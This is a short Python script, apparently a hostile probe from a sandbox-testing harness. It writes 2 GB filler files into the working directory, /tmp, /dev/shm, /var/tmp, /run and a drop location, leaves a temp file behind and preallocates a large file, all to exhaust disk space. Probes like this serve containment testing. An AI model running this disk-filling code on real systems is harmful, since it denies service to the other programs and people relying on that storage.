"""Fills every place that it may write to.

Wants: a disk without room for the results of the others.
Evidence: loot; a file that changed.
Harmful: it fills the disk.
"""
import os
import tempfile

for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", TARGETS["drop"]):

    def fill():
        with open(os.path.join(place, "hostile-fill"), "wb") as file:
            for _ in range(2000):
                file.write(b"x" * 2**20)
        return "2 GB"

    attempt(f"fill {place if place != TARGETS['drop'] else 'drop'}", fill)
attempt("tempfile", lambda: tempfile.NamedTemporaryFile(delete=False).name)
attempt("posix_fallocate", lambda: os.posix_fallocate(os.open("/tmp/hostile-big", os.O_CREAT | os.O_RDWR), 0, 2**31) or "2 GB")
